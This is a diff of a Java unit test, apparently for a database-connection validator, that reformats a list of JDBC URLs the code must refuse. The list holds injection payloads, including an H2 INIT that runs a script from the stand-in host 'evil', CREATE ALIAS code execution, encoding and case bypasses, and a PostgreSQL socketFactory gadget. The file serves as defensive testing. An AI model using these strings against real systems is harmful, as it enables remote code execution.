@@ -35,28 +35,29 @@ class DatabaseUrlsTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-            "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
-            "jdbc:h2:mem:a;init=CREATE ALIAS X AS 'x'",
-            "jdbc:h2:mem:a; INIT =SELECT 1",
-            "jdbc:h2:mem:a;\u0131nit=SELECT 1",
-            "jdbc:h2:mem:a;MODE=MySQL\\;INIT=SELECT 1",
-            "jdbc:h2:./a;TRACE_LEVEL_FILE=4",
-            "jdbc:h2:./a;AUTO_SERVER=TRUE",
-            "jdbc:h2:./a;DATABASE_EVENT_LISTENER='x.Y'",
-            "jdbc:h2:./a;JAVA_OBJECT_SERIALIZER='x.Y'",
-            "jdbc:h2:./a;AUTHENTICATOR=x",
-            "jdbc:h2:./a;PASSWORD=x",
-            "jdbc:h2:zip:a.zip!/x",
-            "jdbc:h2:split:./x",
-            "jdbc:h2:",
-            "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
-            "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/x",
-            "jdbc:postgresql://h/db?%73ocketFactory=x",
-            "jdbc:postgresql://h/db?user=a&password=b",
-            "jdbc:oracle:thin:@h:1521:x",
-            "orders"
-    })
+    @ValueSource(
+            strings = {
+                    "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+                    "jdbc:h2:mem:a;init=CREATE ALIAS X AS 'x'",
+                    "jdbc:h2:mem:a; INIT =SELECT 1",
+                    "jdbc:h2:mem:a;\u0131nit=SELECT 1",
+                    "jdbc:h2:mem:a;MODE=MySQL\\;INIT=SELECT 1",
+                    "jdbc:h2:./a;TRACE_LEVEL_FILE=4",
+                    "jdbc:h2:./a;AUTO_SERVER=TRUE",
+                    "jdbc:h2:./a;DATABASE_EVENT_LISTENER='x.Y'",
+                    "jdbc:h2:./a;JAVA_OBJECT_SERIALIZER='x.Y'",
+                    "jdbc:h2:./a;AUTHENTICATOR=x",
+                    "jdbc:h2:./a;PASSWORD=x",
+                    "jdbc:h2:zip:a.zip!/x",
+                    "jdbc:h2:split:./x",
+                    "jdbc:h2:",
+                    "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
+                    "jdbc:postgresql://h/db?sslmode=require&loggerFile=/etc/x",
+                    "jdbc:postgresql://h/db?%73ocketFactory=x",
+                    "jdbc:postgresql://h/db?user=a&password=b",
+                    "jdbc:oracle:thin:@h:1521:x",
+                    "orders"
+            })
     void whatCouldRunCodeOrIsUnknownIsRefused(String url) {
         assertThatExceptionOfType(StepError.class).isThrownBy(() -> login(url)).satisfies(error -> {
             assertThat(error.code()).isEqualTo("sql/BadUrl");
